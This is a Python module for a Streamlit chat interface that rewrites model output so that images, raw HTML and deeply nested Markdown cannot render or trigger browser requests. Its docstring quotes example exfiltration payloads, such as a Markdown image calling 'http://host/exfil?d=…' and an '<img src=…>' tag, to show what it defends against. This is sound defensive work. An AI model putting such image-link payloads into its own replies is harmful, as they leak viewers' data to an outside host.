"""Model text on a page or in an export, made safe: it can never make the viewer's browser fetch anything.

A character's reply is whatever a model (or a hostile server) sent. Rendered as Markdown as is, it could:

- load an image from any host (`![x](http://host/exfil?d=…)`, reference-style `![x][r]` with `[r]: http://…`,
  a linked image `[![x](…)](…)`): every viewer's browser would send its address and Referer there;
- carry raw HTML (`<img src=…>`): Streamlit shows it as text, but a Markdown viewer opening an export may not;
- nest block quotes or lists thousands deep, which overflows the page's Markdown renderer (a JavaScript stack
  trace in the bubble).

`safe_markdown` rewrites the text so none of that is possible, whatever the parser does with code spans and
blocks, by putting an invisible WORD JOINER (U+2060) where the syntax needs two characters side by side:

- between `!` and `[`: no image syntax is left; `![x](url)` shows as `!` and a link the person may click;
- between `<` and a letter, `/`, `!` or `?`: no HTML tag, comment or autolink; the text shows as written;
- deep nesting is cut: the first `MAX_DEPTH` block markers (`>`, `-`, `1.` …) of a line are kept, the rest
  shows as text, and leading indentation is capped at `MAX_INDENT` columns.

Inside code the joiner is invisible, so code reads the same. The stored text is never changed: apply this at
the point of display or export only. `markdown` and `write_stream` are the Streamlit render points.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

#: Invisible, not whitespace for Markdown (Unicode Cf), so it breaks `![`, `<img` and markers without a trace.
JOINER = "\u2060"
#: Block containers (quote, list item) kept per line; React renders nested elements recursively.
MAX_DEPTH = 12
#: Leading indentation kept per line (list nesting by indentation is another way to nest deeply).
MAX_INDENT = 48

_IMAGE = re.compile(r"!(?=\[)")
_TAG = re.compile(r"<(?=[A-Za-z/!?])")
#: One block-container marker with the whitespace before it: a quote, a bullet or an ordered-list item.
_MARKER = re.compile(r"[ \t]*(?:>|[-+*](?=[ \t]|$)|\d{1,9}[.)](?=[ \t]|$))")


def _flatten(line: str) -> str:
    """Keep at most MAX_DEPTH container markers and MAX_INDENT columns of leading indentation on one line."""
    stripped = line.lstrip(" \t")
    indent = len(line) - len(stripped)
    if indent > MAX_INDENT:
        line = line[:MAX_INDENT] + stripped
    pos, depth = 0, 0
    while depth < MAX_DEPTH and (m := _MARKER.match(line, pos)):
        pos, depth = m.end(), depth + 1
    if depth < MAX_DEPTH or not _MARKER.match(line, pos):
        return line
    rest = line[pos:].lstrip(" \t")
    # the rest is text: the joiner stops it from being read as more markers (or as an indented code block)
    return f"{line[:pos]} {JOINER}{rest}"


def safe_markdown(text: str) -> str:
    """`text` as Markdown that renders the same words but cannot load an image, run HTML or nest deeply."""
    text = _IMAGE.sub("!" + JOINER, text)
    text = _TAG.sub("<" + JOINER, text)
    return "\n".join(_flatten(line) for line in text.split("\n"))


def markdown(text: str, target=None) -> None:
    """Show model (or person) text as safe Markdown in `target` (a Streamlit container or placeholder)."""
    import streamlit as st

    (target if target is not None else st).markdown(safe_markdown(text))


def write_stream(chunks: Iterable[str], target=None, cursor: str = " ▌") -> str:
    """Like `st.write_stream`, but each partial text is shown through `safe_markdown`. Returns the whole text.

    `st.write_stream` renders the raw partial text, so an image would be fetched while the reply streams.
    """
    import streamlit as st

    slot = (target if target is not None else st).empty()
    text = ""
    for chunk in chunks:
        if chunk:
            text += chunk
            slot.markdown(safe_markdown(text) + cursor)
    if text:
        slot.markdown(safe_markdown(text))
    else:
        slot.empty()
    return text
